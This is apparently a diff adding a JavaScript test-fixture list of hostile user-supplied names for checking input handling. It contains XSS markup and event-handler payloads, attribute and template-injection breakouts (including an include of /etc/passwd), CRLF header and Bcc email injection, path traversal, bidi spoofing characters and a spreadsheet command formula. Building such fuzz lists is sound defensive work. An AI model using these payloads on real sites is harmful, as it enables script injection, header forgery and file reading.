@@ -1,0 +1,87 @@
+// Names that want to be more than a name: as somebody, or somebody's mail, can give them to everything that has one.
+// Each at most as long as the shortest of them may be.
+
+/** Markup, handlers and addresses that run. */
+const RUNS = [
+  `<script>pwned()</script>`,
+  `<ScRiPt >pwned()</sCrIpT >`,
+  `<scr<script>ipt>pwned()</script>`,
+  `<img src=x onerror=pwned()>`,
+  `"><img src=x onerror=pwned()>`,
+  `'><img src=x onerror=pwned()>`,
+  `<svg onload=pwned()>`,
+  `<svg><script>pwned()</script></svg>`,
+  `<svg><animate onbegin=pwned() attributeName=x>`,
+  `<math><mtext><img src=x onerror=pwned()>`,
+  `<body onload=pwned()>`,
+  `<input autofocus onfocus=pwned()>`,
+  `<details open ontoggle=pwned()>`,
+  `<video><source onerror=pwned()>`,
+  `<iframe srcdoc="<script>parent.pwned()</script>">`,
+  `<iframe src=javascript:parent.pwned()>`,
+  `<object data=javascript:pwned()>`,
+  `<embed src=javascript:pwned()>`,
+  `<a href=javascript:pwned()>click</a>`,
+  `<form action=javascript:pwned()><button>ok`,
+  `<base href=https://evil.example/>`,
+  `<meta http-equiv=refresh content=0;url=//evil.example>`,
+  `<link rel=stylesheet href=//evil.example/x.css>`,
+  `<template><script>pwned()</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
+  `<!--><img src=x onerror=pwned()>-->`,
+  `<![CDATA[<script>pwned()</script>]]>`,
+  `</title><script>pwned()</script>`,
+  `</textarea><script>pwned()</script>`,
+  `</option></select><script>pwned()</script>`,
+  `</script><script>pwned()</script>`,
+  `</style><script>pwned()</script>`,
+];
+
+/** What breaks out of an attribute, a script, a style, a template. */
+const BREAKS = [
+  `" onmouseover="pwned()`,
+  `' onmouseover='pwned()`,
+  `" autofocus onfocus="pwned()" x="`,
+  "` onmouseover=`pwned()",
+  `";pwned();//`,
+  `');pwned();//`,
+  `\\");pwned();//`,
+  `javascript:pwned()`,
+  `data:text/html,<script>pwned()</script>`,
+  `<style>*{display:none}</style>`,
+  `" style="position:fixed;inset:0;background:red`,
+  `;}*{display:none}/*`,
+  `{{ 7*7 }}{% raw %}`,
+  `{% include "/etc/passwd" %}`,
+  `{# comment #}{{ self }}`,
+  "${pwned()}#{pwned()}",
+  `{ $who } { -brand }`,
+  `{ "" }{ NUMBER(1) }`,
+  `&lt;script&gt;pwned()&lt;/script&gt;`,
+  `&#60;script&#62;pwned()&#60;/script&#62;`,
+  `%3Cscript%3Epwned()%3C/script%3E`,
+  `\\u003cscript\\u003epwned()\\u003c/script\\u003e`,
+];
+
+/** Signs that turn, hide or end what stands around them. */
+const TURNS = [
+  `\u202egnp.exe`,
+  `a\u202e\u2066b\u2069\u202cc`,
+  `\u2066\u2067\u2068 isolated`,
+  `\u200f\u200eleft and right`,
+  `abc \u05d0\u05d1\u05d2 123`,
+  `\u0645\u0631\u062d\u0628\u0627 (1)`,
+  `zero\u200bwidth\u200d\ufeff`,
+  `Z\u0351\u036b\u0343a\u0310\u0357l\u036cg\u0311o\u0302\u0301\u0300`,
+  `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}\u{1f1eb}\u{1f1f7}`,
+  `line\r\nSet-Cookie: pwned=1`,
+  `line\nLocation: https://evil.example/`,
+  `x\r\nBcc: eve@evil.example\r\n\r\nbody`,
+  `NUL\u0000and\u0007bell\u001b[31m`,
+  `../../../etc/passwd`,
+  `C:\\windows\\..\\x?y=z&a=b#c`,
+  `=cmd|'/c calc'!A1`,
+  `@SUM(1+1)*pwned()`,
+];
+
+export const NAMES = [...RUNS, ...BREAKS, ...TURNS];
